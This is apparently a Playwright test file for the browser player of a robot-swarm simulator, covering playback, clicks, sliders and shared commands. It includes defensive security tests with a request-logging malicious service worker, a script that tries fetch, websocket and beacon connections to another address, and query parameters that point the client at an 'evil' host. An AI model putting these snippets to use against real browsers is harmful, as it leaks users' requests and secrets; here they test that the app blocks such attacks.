"""The page in Chromium, which loads it once: what a user does there reaches the run, and what is
copied repeats it."""

import re
import shlex
import shutil
import signal
import sys
import time
from base64 import b64decode
from contextlib import ExitStack, contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from subprocess import PIPE, Popen
from threading import Thread
from urllib.parse import urlsplit

import jax
import numpy as np
import psutil
import pytest
import viser
from PIL import Image
from viser.transforms import SO3

from iswarm_mj import SwarmConfig, play
from iswarm_mj.commands.main import parse
from iswarm_mj.commands.play import redirect_file
from iswarm_mj.config.swarm import ArenaConfig
from iswarm_mj.engines.planar.settings import PlanarSettings
from iswarm_mj.output.loading import load
from iswarm_mj.player.film import Film
from iswarm_mj.player.page import close_server, open_server
from iswarm_mj.player.replay import write_replay
from iswarm_mj.simulation.run import Run
from iswarm_mj.simulation.scenario import Scenario
from iswarm_mj.workflows.clean import run_swarm

sync_api = pytest.importorskip("playwright.sync_api")
CHROMIUM = shutil.which("chromium")
FLAGS = [
    "--no-sandbox",
    "--use-angle=swiftshader",
    "--enable-unsafe-swiftshader",
    "--disable-dev-shm-usage",
]
CONFIG = SwarmConfig(ArenaConfig(size=24.0, n_dust=12, dust_area_offset=7.0))
SECONDS = 120
WIDTH, HEIGHT = 1000, 700

pytestmark = [pytest.mark.slow, pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")]


def wait(holds):
    end = time.monotonic() + SECONDS
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.2)


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def played():
    played = play(Scenario(CONFIG, robots=20, engine=PlanarSettings(), seed=3), port=8320)
    yield played
    played.close()


@pytest.fixture(scope="module")
def pages(browser, played):
    """Two browsers that show it."""
    pages = [browser.new_page(viewport={"width": WIDTH, "height": HEIGHT}) for _ in range(2)]
    for page in pages:
        page.set_default_timeout(SECONDS * 1000)
        page.goto(played.url)
        page.locator("[class*=mantine-Notification] button").first.click()  # software rendering
    return pages


def shown(page):
    """Pixels of the arena."""
    picture = page.screenshot(clip={"x": 0, "y": 0, "width": WIDTH - 400, "height": HEIGHT})
    return np.asarray(Image.open(BytesIO(picture)).convert("RGB"), float)


def test_the_swarm_moves_in_both_browsers_and_stops_in_both(pages, played):
    session, before = played.session, [shown(page) for page in pages]
    pages[0].get_by_role("button", name="Play").click()
    wait(lambda: session.step > 3)
    pages[1].get_by_role("button", name="Pause").click()
    wait(lambda: not session.is_playing and session.shown == session.step)
    step = session.step
    time.sleep(2)
    after = [shown(page) for page in pages]
    assert session.step == step
    for a, b in zip(before, after, strict=True):
        assert (np.abs(a - b).max(axis=-1) > 50).mean() > 1e-3  # robots are elsewhere
    assert (np.abs(after[0] - after[1]).max(axis=-1) > 50).mean() < 1e-3
    np.testing.assert_array_equal(shown(pages[0]), after[0])
    assert f"step {step}" in pages[1].get_by_text(re.compile(r"^step \d+")).inner_text()


def test_a_click_on_a_robot_selects_it(pages, played):
    client = next(iter(played._server.get_clients().values()))
    pose = played.session.snapshots[-1].frames.pose[0] * 1e3
    robot = int(np.hypot(*(pose[:, :2] - [0, -10]).T).argmin())
    seen = np.array([*pose[robot, :2], 0.5]) - client.camera.position
    right, down, ahead = SO3(client.camera.wxyz).inverse() @ seen
    scale = client.camera.image_height / 2 / np.tan(client.camera.fov / 2) / ahead
    place = (
        client.camera.image_width / 2 + scale * right,
        client.camera.image_height / 2 + scale * down,
    )
    for page in pages:
        page.mouse.click(*place)
    wait(lambda: played._panel.view.selected == robot)
    pages[0].get_by_role("tab", name="Robot").click()
    wait(lambda: pages[0].get_by_text(f"Robot {robot}", exact=False).count() > 0)


def test_a_slider_changes_the_rules_and_the_copied_command_repeats_the_run(pages, played):
    session, page = played.session, pages[0]
    page.get_by_role("tab", name="Rules").click()
    number = page.locator("xpath=//*[text()='p vector forget']/following::input[@inputmode][1]")
    number.fill("0.75")
    number.press("Enter")
    wait(lambda: session.now.genome.p_vector_forget == 0.75)
    step = session.step
    page.get_by_role("button", name="Step").click()
    wait(lambda: session.step == step + 1)
    forgets = session.run.arrays()[0].strategy.rules.p_vector_forget
    np.testing.assert_array_equal(forgets, np.float32([0.75]))
    page.get_by_role("tab", name="Share").click()
    wait(lambda: f"--changes {step}:p_vector_forget=0.75" in page.locator("pre").inner_text())
    command = page.locator("pre").inner_text()
    other = parse(shlex.split(command)[1:]).session()
    while other.step < session.step:
        other.advance()
    for one, copy in zip(
        *map(jax.tree.leaves, (session.run.arrays()[1], other.run.arrays()[1])), strict=True
    ):
        np.testing.assert_array_equal(np.asarray(one), np.asarray(copy))


def test_the_command_ends_with_ctrl_c(browser):
    command = [
        sys.executable,
        "-m",
        "iswarm_mj",
        "play",
        "--robots",
        "20",
        "--engine",
        "planar",
        "--no-open",
    ]
    command += [
        "--arena.size",
        "24",
        "--arena.dust-area-offset",
        "7",
        "--arena.n-dust",
        "12",
        "--port",
        "8340",
    ]
    with Popen(command, stdout=PIPE, text=True) as process, ExitStack() as ends:
        ends.callback(process.kill)
        page = browser.new_page()
        page.goto(re.search(r"http://127\.\S+", process.stdout.readline())[0])
        page.get_by_role("button", name="Pause").wait_for(timeout=SECONDS * 1000)
        children = psutil.Process(process.pid).children(recursive=True)
        process.send_signal(signal.SIGINT)
        assert process.wait(SECONDS) == 130
        assert not any(child.is_running() for child in children)


def test_a_replay_has_the_same_light_in_every_loop(browser, tmp_path):
    run_swarm(Run(Scenario(CONFIG, robots=20, engine=PlanarSettings(), seed=3, steps=8)), tmp_path)
    write_replay(load(tmp_path), Film(speed=8.0), tmp_path / "page.html")
    page = browser.new_page(viewport={"width": WIDTH, "height": HEIGHT})
    page.goto(f"file://{tmp_path}/page.html")
    page.locator("[class*=mantine-Notification] button").first.click()
    time.sleep(1)
    cast, floor = page.context.new_cdp_session(page), []

    def take(frame):
        picture = np.asarray(Image.open(BytesIO(b64decode(frame["data"]))).convert("RGB"), int)
        floor.append(np.median(picture[HEIGHT // 2 : HEIGHT - 100].reshape(-1, 3), axis=0))
        cast.send("Page.screencastFrameAck", {"sessionId": frame["sessionId"]})

    cast.on("Page.screencastFrame", take)
    cast.send("Page.startScreencast", {"format": "png"})
    page.wait_for_timeout(6000)  # six loops
    page.close()
    assert len(floor) > 10
    np.testing.assert_allclose(floor, floor[0] * np.ones((len(floor), 1)), atol=2)


FOREIGN = f"""<!doctype html>
<script>
const opens = (address) => new Promise((done) => {{
  const socket = new WebSocket(address, ["viser-v{viser.__version__}"]);
  socket.onopen = () => done(true);
  socket.onerror = () => done(false);
}});
</script>
"""
"""A page of another website, which opens a websocket at an address."""


@pytest.fixture
def website(tmp_path):
    """Address of another website, on another port and with another name."""
    (tmp_path / "index.html").write_text(FOREIGN)
    handler = partial(SimpleHTTPRequestHandler, directory=tmp_path)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()


def test_another_website_reaches_nothing(browser, played, website):
    """Not even one that knows the address; browsers say by which website a websocket is opened."""
    page = browser.new_page()
    page.goto(website)
    split = urlsplit(played.url)
    n_clients = len(played._server.get_clients())
    for path in ("/", split.path, split.path.removesuffix("/")):
        assert page.evaluate("opens", f"ws://{split.netloc}{path}") is False
    assert len(played._server.get_clients()) == n_clients
    page.close()


WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => {
  const learnt = encodeURIComponent(event.request.url);
  event.respondWith(fetch(`/learnt?${learnt}`).then(() => fetch(event.request)));
});
"""
"""A service worker that reports all that its origin is asked for."""

REGISTER = """<!doctype html>
<script>
navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(
  () => { document.title = "registered"; }
);
</script>
"""
"""A page of an attacker, which registers the service worker for its origin."""


class Attacker(BaseHTTPRequestHandler):
    """Answers all requests of browsers, and notes their paths."""

    def do_GET(self):
        self.server.paths.append(self.path)
        is_worker = self.path == "/worker.js"
        content = (WORKER if is_worker else REGISTER).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_):
        pass


@contextmanager
def attack_from(host, port=0):
    """Serve an attacker's pages at an address; yield the server, with the `paths` of requests."""
    with ThreadingHTTPServer((host, port), Attacker) as server:
        server.paths = []
        Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server
        finally:
            server.shutdown()


@pytest.mark.skipif(sys.platform != "linux", reason="other systems have one address for all pages")
def test_whoever_takes_the_port_of_an_ended_page_learns_nothing_of_the_next_one(browser):
    """Neither by the tab that is left open nor by a service worker, which browsers keep."""
    ended = open_server(8370)
    split = urlsplit(ended.url)
    context = browser.new_context()
    stale_tab = context.new_page()
    stale_tab.goto(ended.url)
    close_server(ended)

    with attack_from(split.hostname, split.port) as attacker:
        # The tab loads the attacker's page, whose service worker answers for the origin from then
        # on.
        stale_tab.goto(f"http://{split.netloc}/")
        wait(lambda: stale_tab.title() == "registered")
        stale_tab.goto(f"http://{split.netloc}/anything")
        wait(lambda: any("learnt" in path and "anything" in path for path in attacker.paths))
        attacker.paths.clear()

        following = open_server(8370)
        try:
            tab = context.new_page()
            tab.goto(following.url)
            tab.wait_for_function("document.querySelector('canvas') !== null")
            assert tab.evaluate("navigator.serviceWorker.controller") is None
            wait(lambda: len(following.get_clients()) == 1)
            time.sleep(2)  # in which the tab that is left open may connect
            secret = urlsplit(following.url).path.strip("/")
            assert not any(secret in path for path in attacker.paths)
            assert len(following.get_clients()) == 1
        finally:
            close_server(following)
            context.close()


@pytest.mark.parametrize(
    "parameter", ["playbackPath=http://{evil}/x.viser", "websocket=ws://{evil}"]
)
def test_no_parameter_leads_the_client_to_an_attacker(browser, played, parameter):
    with attack_from("127.0.0.1") as attacker:
        query = parameter.format(evil=f"127.0.0.1:{attacker.server_port}")
        page = browser.new_page()
        assert page.goto(f"{played.url}?{query}").status == 403
        time.sleep(1)
        assert page.locator("canvas").count() == 0
        assert not attacker.paths
        page.close()


CONNECT_ELSEWHERE = """async (address) => {
  const outcome = (promise) => promise.then(() => "connected", () => "blocked");
  const opens = new Promise((done, failed) => {
    const socket = new WebSocket(`ws://${address}/socket`);
    socket.onopen = done;
    socket.onerror = failed;
  });
  const beacon = navigator.sendBeacon(`http://${address}/beacon`) ? "connected" : "blocked";
  return [await outcome(fetch(`http://${address}/fetch`)), await outcome(opens), beacon];
}"""
"""Tries to reach another address from within a page."""


def test_the_page_itself_connects_to_nobody_else(browser, played):
    """Its Content-Security-Policy holds even for scripts that run in it."""
    with attack_from("127.0.0.1") as attacker:
        page = browser.new_page()
        violations = []
        page.on("console", lambda message: violations.append(message.text))
        page.goto(played.url)
        outcomes = page.evaluate(CONNECT_ELSEWHERE, f"127.0.0.1:{attacker.server_port}")
        assert outcomes[:2] == ["blocked", "blocked"]
        assert sum("Content Security Policy" in text for text in violations) >= 2
        time.sleep(1)
        assert not attacker.paths
        page.close()


def test_a_notebook_of_another_website_shows_the_page(browser, played, website, tmp_path):
    """As Jupyter does, in an iframe of which the notebook knows the address."""
    (tmp_path / "notebook.html").write_text(f"<!doctype html><p>Notebook</p>{played._repr_html_()}")
    page = browser.new_page(viewport={"width": WIDTH, "height": HEIGHT})
    page.set_default_timeout(SECONDS * 1000)
    page.goto(f"{website}notebook.html")
    frame = page.frame_locator("iframe")
    frame.get_by_role("button", name=re.compile("Play|Pause")).wait_for()
    step = played.session.step
    frame.get_by_text("Step", exact=True).click()
    wait(lambda: played.session.step == step + 1)
    page.close()


def test_the_file_that_the_command_opens_leads_to_the_page(browser, played):
    page = browser.new_page()
    page.set_default_timeout(SECONDS * 1000)
    with redirect_file(played.url) as file:
        page.goto(file.as_uri())
        page.wait_for_url(f"{played.url}**")
    page.get_by_role("tab", name="Share").wait_for()
    assert page.evaluate("document.referrer") == ""
    page.reload()  # the client has put its websocket into the address
    page.get_by_role("tab", name="Share").wait_for()
    page.close()


def test_the_guard_knows_all_that_the_client_sends(pages, played, capfd):
    """Clicks of all kinds on the arena and on the panel, a narrow window, a download: no message is
    dropped."""
    page = pages[1]
    for name in ("Rules", "World", "Robot", "Gripper", "Share", "Watch"):
        page.get_by_role("tab", name=name).click()
    page.mouse.click(200, 300)
    page.mouse.click(250, 350, button="right")
    page.mouse.dblclick(250, 250)
    for key in ("Shift", "Control"):
        page.keyboard.down(key)
        page.mouse.move(300, 300)
        page.mouse.down()
        page.mouse.move(350, 340, steps=5)
        page.mouse.up()
        page.keyboard.up(key)
    page.mouse.wheel(0, 200)
    page.set_viewport_size({"width": 400, "height": 700})
    page.set_viewport_size({"width": WIDTH, "height": HEIGHT})
    page.get_by_text("trails", exact=True).first.click()
    page.get_by_role("tab", name="Share").click()
    page.get_by_role("button", name="Save as TOML").click()
    page.get_by_text("play.toml", exact=False).first.wait_for()
    played._server._websock_server.disconnect_all_clients()
    wait(lambda: len(played._server.get_clients()) == len(pages))
    assert "ignores messages" not in capfd.readouterr().err
